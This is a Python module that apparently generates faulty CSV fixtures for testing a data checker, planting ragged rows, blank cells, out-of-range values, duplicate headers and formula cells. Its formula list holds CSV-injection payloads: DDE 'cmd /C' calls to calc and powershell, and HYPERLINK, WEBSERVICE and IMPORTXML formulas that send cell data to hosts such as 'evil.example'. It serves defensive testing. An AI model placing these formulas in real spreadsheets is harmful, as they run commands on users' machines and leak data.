"""Faults of tables: rows, headers and cells of CSV files."""

from __future__ import annotations

import csv
import io
import random
from typing import Any

from calibration.planting import Row, plants

File = tuple[str, bytes]

_HEADER = ["id", "text", "label", "stars", "day"]
_LABELS = ("good", "bad", "mixed")


def _table(rng: random.Random, rows: list[Row]) -> list[list[str]]:
    """A sound table, header first, whose texts are those of the rows."""
    table = [list(_HEADER)]
    for number, row in enumerate(rows):
        texts = [m["content"] for m in row["messages"] if isinstance(m.get("content"), str) and m["content"].strip()]
        text = texts[0] if texts else "nothing was said"
        day = f"2026-{rng.randrange(1, 13):02}-{rng.randrange(1, 29):02}"
        table.append([f"R{number:04}", text, rng.choice(_LABELS), str(rng.randrange(1, 6)), day])
    return table


def _file(table: list[list[str]], delimiter: str = ",") -> File:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(table)
    return "data.csv", out.getvalue().encode("utf-8", "surrogatepass")


# --- TAB001 ragged-row ------------------------------------------------------------------------------------------------


@plants("TAB001", scope="file")
def cells_too_many_or_too_few(rng: random.Random, rows: list[Row], n: int) -> File:
    table = _table(rng, rows)
    row = rng.choice(table[1:])
    kinds = (
        lambda: row.append("one more"),
        lambda: row.extend(["", ""]),
        row.pop,
        lambda: row.__delitem__(slice(2, None)),
        lambda: row.__delitem__(0),
        lambda: row.insert(1, "half of it"),
        lambda: row.extend(str(i) for i in range(40)),
    )
    kinds[n % len(kinds)]()
    return _file(table, ",;\t|"[n % 4])


@plants("TAB001", scope="file")
def an_unquoted_comma(rng: random.Random, rows: list[Row], n: int) -> File:
    name, data = _file(_table(rng, rows))
    said = ("Well, I liked it", "Tea, please", "no, never, not me", "1,000 times", "so, what")[n % 5]
    return name, data + f"R9999,{said},good,5,2026-01-01\n".encode()


# --- TAB002 missing-value ---------------------------------------------------------------------------------------------


@plants("TAB002", scope="file")
def an_empty_cell(rng: random.Random, rows: list[Row], n: int) -> File:
    table = _table(rng, rows)
    blanks = ("", " ", "\t", "   ", "\n", "\u00a0", "\u3000", " \n ")
    rng.choice(table[1:])[rng.choice([1, 2])] = blanks[n % len(blanks)]
    return _file(table)


# --- TAB003 expectation-failed ----------------------------------------------------------------------------------------

_EXPECTED: dict[str, Any] = {
    "expectations": [
        {"expect_column_values_to_not_be_null": {"column": "label"}},
        {"expect_column_values_to_be_in_set": {"column": "label", "value_set": list(_LABELS)}},
        {"expect_column_values_to_be_between": {"column": "stars", "min_value": 1, "max_value": 5}},
        {"expect_column_values_to_match_regex": {"column": "id", "regex": "^R[0-9]{4}$"}},
        {"expect_column_values_to_be_between": {"column": "day", "min_value": "2026-01-01", "max_value": "2026-12-31"}},
        {"expect_column_value_lengths_to_be_between": {"column": "label", "min_value": 3, "max_value": 5}},
    ]
}
_UNEXPECTED = (
    (2, ""),
    (2, "goood"),
    (2, "Good"),
    (2, "good "),
    (3, "0"),
    (3, "6"),
    (3, "-1"),
    (3, "5.5"),
    (3, "many"),
    (3, "1e3"),
    (3, "5 stars"),
    (0, "R12"),
    (0, "r0001"),
    (0, "R0001 "),
    (0, "0001"),
    (4, "2025-12-31"),
    (4, "2027-01-01"),
    (4, "31.12.2026"),
    (4, "2026-02-30"),
    (4, "soon"),
)


@plants("TAB003", scope="file", options=_EXPECTED)
def an_unexpected_cell(rng: random.Random, rows: list[Row], n: int) -> File:
    table = _table(rng, rows)
    column, cell = _UNEXPECTED[n % len(_UNEXPECTED)]
    rng.choice(table[1:])[column] = cell
    return _file(table)


# --- TAB004 ambiguous-header ------------------------------------------------------------------------------------------


@plants("TAB004", scope="file")
def a_name_twice_or_none(rng: random.Random, rows: list[Row], n: int) -> File:
    table = _table(rng, rows)
    kinds: tuple[tuple[int, str], ...] = (
        (4, "text"),
        (3, "label"),
        (4, " text"),
        (3, "text\t"),
        (0, "day"),
        (0, ""),
        (3, ""),
        (4, ""),
        (4, "  "),
        (0, "stars"),
        (3, "id"),
        (4, "label "),
        (0, "\u00a0"),
        (3, "\u3000"),
        (4, "stars"),
    )
    place, name = kinds[n % len(kinds)]
    table[0][place] = name
    return _file(table, ",;\t|"[n % 4])


# --- TAB005 formula-cell ----------------------------------------------------------------------------------------------

_FORMULAS = (
    '=HYPERLINK("http://{host}/?x="&A{k}, "see here")',
    "=cmd|' /C powershell {host}'!A{k}",
    "+cmd|' /C calc'!A{k}",
    "-cmd|'/c start {host}'!A{k}",
    "@SUM(A1:A{k})",
    "=SUM(B1:B{k})",
    "=SUM(1,{k})*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://{host}/"&B{k})',
    '=IMPORTXML(CONCAT("http://{host}/", A{k}), "//a")',
    '=IMAGE("https://{host}/p.png?"&C{k})',
    "=A{k}",
    "=$A${k}+1",
    "=Sheet2!B{k}",
    "='Other sheet'!C{k}:D9",
    "={k}+{k}*2",
    "=-{k}+2",
    "+A{k}+B2",
    "-A{k}*2",
    '="0{k}"',
    "={{1,2,{k}}}",
    "\t=A{k}",
    "\r=SUM(A{k})",
    '=IF(A{k}>1,"yes","no")',
    '=DDE("cmd";"/C calc";"!A{k}")',
    "=rand()*{k}",
    "+HYPERLINK(A{k})",
    "=VLOOKUP(A{k},B:C,2,FALSE)",
    "=MSEXCEL|\"\\..\\..\\Windows\\System32\\cmd.exe\"!''",
    "＝SUM(A{k})",
    '=CONCATENATE(A{k}," and ",B1)',
    "-2+3+cmd|' /C calc'!D{k}",
    '=INDIRECT("A"&{k})',
)


@plants("TAB005")
def a_formula(rng: random.Random, row: Row, n: int) -> Row | None:
    texts = [m["content"] for m in row["messages"] if isinstance(m.get("content"), str)]
    host = rng.choice(["example.com", "198.51.100.7", "evil.example:8080", "xn--bcher-kva.example"])
    formula = _FORMULAS[n % len(_FORMULAS)].format(host=host, k=rng.randrange(1, 999))
    record = {"text": texts[0] if texts else "", "label": rng.choice(_LABELS), "note": ""}
    record[rng.choice(list(record))] = formula
    return record
